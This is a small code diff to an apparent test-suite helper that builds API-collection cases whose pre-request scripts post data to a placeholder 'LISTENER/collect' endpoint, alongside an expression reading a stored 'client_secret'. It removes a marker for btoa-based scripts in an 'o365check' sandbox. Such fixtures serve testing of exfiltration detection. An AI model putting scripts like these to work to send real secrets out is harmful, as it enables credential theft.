@@ -59,9 +59,7 @@ def _form(**fields: str) -> dict[str, Any]:
 
 
 def _pre(name: str, script: str, url: str = f"http://{LISTENER}/collect", **extra: Any) -> Case:
-    # btoa is not in o365check's script sandbox yet: such a script fails before it can send anything.
-    unsupported = "btoa is not supported" if "btoa(" in script else ""
-    return Case(name, _collection(_item(name, url, prerequest=script, **extra)), unsupported=unsupported)
+    return Case(name, _collection(_item(name, url, prerequest=script, **extra)))
 
 
 S = 'pm.environment.get("client_secret")'
